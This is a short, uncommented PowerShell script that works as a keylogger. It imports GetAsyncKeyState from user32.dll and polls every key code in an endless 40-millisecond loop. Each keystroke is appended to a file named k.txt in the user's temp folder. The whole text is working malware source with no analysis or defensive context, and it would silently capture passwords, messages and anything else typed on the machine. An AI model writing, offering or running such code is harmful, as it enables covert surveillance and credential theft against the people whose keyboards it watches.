$signature = @'
[DllImport("user32.dll", CharSet=CharSet.Auto, ExactSpelling=true)]
public static extern short GetAsyncKeyState(int virtualKeyCode);
'@
$api = Add-Type -MemberDefinition $signature -Name 'Keyboard' -Namespace 'Win32' -PassThru
$log = "$env:TEMP\k.txt"
while ($true) {
    Start-Sleep -Milliseconds 40
    for ($code = 8; $code -le 254; $code++) {
        if ($api::GetAsyncKeyState($code) -eq -32767) {
            Add-Content -Path $log -Value ([char]$code) -NoNewline
        }
    }
}
